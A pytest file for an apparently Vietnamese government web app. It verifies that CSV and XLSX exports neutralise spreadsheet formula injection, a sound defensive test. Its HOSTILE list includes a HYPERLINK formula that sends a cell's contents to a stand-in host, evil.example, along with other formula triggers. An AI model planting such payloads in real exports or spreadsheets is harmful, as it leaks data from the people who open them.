"""Every CSV and XLSX export, found from the URL map, with hostile texts in every place a person types:
no cell may reach a spreadsheet program as a formula."""
import csv
import io
import re

import openpyxl
import pytest

from app.community.models import Hamlet
from app.core.spreadsheets import FORMULA_START, csv_bytes, safe_cell, xlsx_bytes
from app.extensions import db
from tests.test_dossiers import intake

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&B5,"Bấm xem")', "=2+3", "+SUM(A1:A9)", "-2+3", "@SUM(1)",
           "\t=1+1", "\r=1+1"]
# Each export and the query that makes it show the hostile data.
EXPORTS = {
    "/quan-ly/thu-tuc/xuat.csv": "", "/quan-ly/thu-tuc/xuat.xlsx": "",
    "/quan-ly/thong-ke.xlsx": "?ky=month&nam=2026&thang=3",
    "/quan-ly/to-cong-nghe-so/bao-cao.xlsx": "?thang=2026-03",
}


def _export_urls(app) -> set[str]:
    urls = set()
    for rule in app.url_map.iter_rules():
        if re.search(r"\.(csv|xlsx)\b|any\(csv, xlsx\)", rule.rule):
            kinds = ("csv", "xlsx") if "any(" in rule.rule else ("",)
            urls |= {re.sub(r"<any\(csv, xlsx\):\w+>", kind, rule.rule) for kind in kinds}
    return urls


def _cells(body: bytes, url: str) -> list[tuple[str, object]]:
    """(data type, value) of every cell; CSV cells are all text."""
    if url.endswith(".csv"):
        return [("s", value) for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for value in row]
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [(cell.data_type, cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def hostile_world(app, make_field, make_procedure, officer_client):
    for n, text in enumerate(HOSTILE):
        field = make_field(name=text, slug=f"doc-hai-{n}")
        make_procedure(code=f"9.1{n:05d}", name=text, fee=text, field=field, processing_time="3 Ngày làm việc")
        db.session.add(Hamlet(name=text, position=n))
    db.session.commit()
    officer_client.post("/quan-ly/ho-so/them", data=intake(procedure_code="9.100000"))
    return officer_client


def test_every_export_is_walked(app):
    assert _export_urls(app) == set(EXPORTS), "a new export: add it to EXPORTS with data that reaches it"


@pytest.mark.parametrize("url", sorted(EXPORTS))
def test_no_export_carries_a_live_formula(hostile_world, url):
    response = hostile_world.get(url + EXPORTS[url])
    assert response.status_code == 200
    cells = _cells(response.get_data(), url)
    texts = [value for _kind, value in cells if isinstance(value, str)]
    assert any("HYPERLINK" in text for text in texts), "the hostile data must reach the export"
    assert [kind for kind, _value in cells if kind == "f"] == []
    assert [text for text in texts if text.startswith(FORMULA_START)] == []


def test_the_helper_quotes_only_what_would_run():
    assert [safe_cell(value) for value in ("=1", "+1", "-1", "@A", "\tx", "\rx")] == [
        "'=1", "'+1", "'-1", "'@A", "'\tx", "'\rx"]
    assert [safe_cell(value) for value in ("Hộ tịch", "a=b", 5, -5, None)] == ["Hộ tịch", "a=b", 5, -5, None]
    assert csv_bytes([["=2+3", 1]]).decode("utf-8-sig") == "'=2+3,1\r\n"
    book = openpyxl.Workbook()
    book.active.append(["=2+3"])
    assert openpyxl.load_workbook(io.BytesIO(xlsx_bytes(book))).active["A1"].value == "'=2+3"

